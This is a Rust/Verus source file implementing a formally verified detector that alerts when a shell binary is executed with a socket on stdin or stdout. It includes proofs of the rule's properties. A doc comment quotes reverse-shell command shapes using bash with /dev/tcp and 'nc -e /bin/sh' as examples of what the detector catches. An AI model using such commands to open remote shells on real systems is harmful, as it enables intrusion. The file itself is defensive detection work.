//! Reverse-shell shape: a shell binary exec'd with a socket already on its
//! stdin or stdout.
use vstd::prelude::*;

use crate::text::{basename, basename_of, chars_of, equals};

verus! {

/// Tells whether a pid's given fd is a socket. A reverse shell dup2()s its
/// socket onto fd 0/1/2 *before* calling execve, and those fds persist
/// across the exec, so checking them right after the shell's exec event
/// still sees the redirected fds.
pub trait FdKind {
    /// `socket` is an answer this inspector may give when asked whether
    /// `fd` of `pid` is a socket.
    spec fn answers(&self, pid: u32, fd: u32, socket: bool) -> bool;

    /// Is `fd` of `pid` a socket?
    fn is_socket(&self, pid: u32, fd: u32) -> (r: bool)
        ensures
            self.answers(pid, fd, r),
    ;
}

/// Names of shell binaries.
pub open spec fn is_shell_name(b: Seq<char>) -> bool {
    ||| b == "sh"@
    ||| b == "bash"@
    ||| b == "dash"@
    ||| b == "zsh"@
    ||| b == "ash"@
    ||| b == "ksh"@
    ||| b == "csh"@
    ||| b == "tcsh"@
}

/// What a reverse-shell alert says.
pub struct ReverseShellAlertView {
    pub pid: u32,
    pub uid: u32,
    pub path: Seq<char>,
}

/// A reverse-shell alert: `pid` (running as `uid`) exec'd the shell at
/// `path` with a socket on stdin or stdout.
pub struct ReverseShellAlert {
    pub pid: u32,
    pub uid: u32,
    pub path: String,
}

impl ReverseShellAlert {
    pub open spec fn view_of(r: Option<ReverseShellAlert>) -> Option<ReverseShellAlertView> {
        match r {
            Some(a) => Some(ReverseShellAlertView { pid: a.pid, uid: a.uid, path: a.path@ }),
            None => None,
        }
    }
}

/// The reverse-shell rule, given whether fd 0 and fd 1 of the pid are
/// sockets: it alerts exactly when the exec'd path's basename is a shell
/// name and one of the two is a socket.
pub open spec fn reverse_shell_alert(pid: u32, uid: u32, path: Seq<char>, stdin_socket: bool, stdout_socket: bool) -> Option<
    ReverseShellAlertView,
> {
    if is_shell_name(basename(path)) && (stdin_socket || stdout_socket) {
        Some(ReverseShellAlertView { pid, uid, path })
    } else {
        None
    }
}

/// Is the basename of this path a shell name?
pub fn is_shell_path(path: &str) -> (r: bool)
    ensures
        r == is_shell_name(basename(path@)),
{
    let cs = chars_of(path);
    let base = basename_of(cs.as_slice());
    let b = base.as_slice();
    equals(b, "sh") || equals(b, "bash") || equals(b, "dash") || equals(b, "zsh") || equals(b, "ash")
        || equals(b, "ksh") || equals(b, "csh") || equals(b, "tcsh")
}

/// The reverse-shell rule as a function of what is on fd 0 and fd 1 (see
/// [`reverse_shell_alert`]).
pub fn reverse_shell_verdict(pid: u32, uid: u32, path: &str, stdin_socket: bool, stdout_socket: bool) -> (r: Option<
    ReverseShellAlert,
>)
    ensures
        ReverseShellAlert::view_of(r) == reverse_shell_alert(pid, uid, path@, stdin_socket, stdout_socket),
{
    if is_shell_path(path) && (stdin_socket || stdout_socket) {
        Some(ReverseShellAlert { pid, uid, path: path.to_owned() })
    } else {
        None
    }
}

/// A shell binary exec'd with a socket already sitting on stdin or stdout —
/// the shape of `bash -i >& /dev/tcp/host/port 0>&1` and `nc -e /bin/sh`
/// style reverse shells. Stateless — checked at the moment of the shell's
/// own exec, not correlated against prior events.
pub struct ReverseShellDetector<F: FdKind> {
    fd_kind: F,
}

impl<F: FdKind> ReverseShellDetector<F> {
    /// The fd inspector this detector asks.
    pub closed spec fn fd_kind(&self) -> F {
        self.fd_kind
    }

    pub fn new(fd_kind: F) -> (r: ReverseShellDetector<F>)
        ensures
            r.fd_kind() == fd_kind,
    {
        ReverseShellDetector { fd_kind }
    }

    /// Call only for Exec events (the caller already has the decoded path).
    /// A non-shell path never alerts, and the fds are not inspected;
    /// otherwise the inspector is asked about fd 0 of `pid`, and about fd 1
    /// when fd 0 is no socket, and the result is [`reverse_shell_alert`] of
    /// its answers.
    pub fn observe(&self, pid: u32, uid: u32, path: &str) -> (r: Option<ReverseShellAlert>)
        ensures
            !is_shell_name(basename(path@)) ==> r is None,
            is_shell_name(basename(path@)) ==> exists|stdin_socket: bool, stdout_socket: bool|
                self.fd_kind().answers(pid, 0, stdin_socket) && (stdin_socket || self.fd_kind().answers(
                    pid,
                    1,
                    stdout_socket,
                )) && ReverseShellAlert::view_of(r) == reverse_shell_alert(
                    pid,
                    uid,
                    path@,
                    stdin_socket,
                    stdout_socket,
                ),
    {
        if !is_shell_path(path) {
            return None;
        }
        let stdin_socket = self.fd_kind.is_socket(pid, 0);
        let stdout_socket = if stdin_socket { true } else { self.fd_kind.is_socket(pid, 1) };
        reverse_shell_verdict(pid, uid, path, stdin_socket, stdout_socket)
    }
}

// ---------------------------------------------------------------------------
// Laws
// ---------------------------------------------------------------------------

/// A binary that is not a shell never alerts, whatever its fds hold.
pub proof fn law_non_shell_never_alerts(pid: u32, uid: u32, path: Seq<char>, s0: bool, s1: bool)
    requires
        !is_shell_name(basename(path)),
    ensures
        reverse_shell_alert(pid, uid, path, s0, s1) is None,
{
}

/// A shell with neither stdin nor stdout on a socket never alerts.
pub proof fn law_shell_with_ordinary_fds_is_quiet(pid: u32, uid: u32, path: Seq<char>)
    ensures
        reverse_shell_alert(pid, uid, path, false, false) is None,
{
}

/// Shells are matched by basename regardless of directory: the same
/// binary name in any two directories gets the same verdict.
pub proof fn law_shell_matched_by_basename(
    pid: u32,
    uid: u32,
    dir1: Seq<char>,
    dir2: Seq<char>,
    name: Seq<char>,
    s0: bool,
    s1: bool,
)
    requires
        forall|i: int| 0 <= i < name.len() ==> name[i] != '/',
    ensures
        reverse_shell_alert(pid, uid, dir1.push('/') + name, s0, s1) is Some
            <==> reverse_shell_alert(pid, uid, dir2.push('/') + name, s0, s1) is Some,
{
    crate::text::lemma_basename_after_slash(dir1, name);
    crate::text::lemma_basename_after_slash(dir2, name);
}

} // verus!
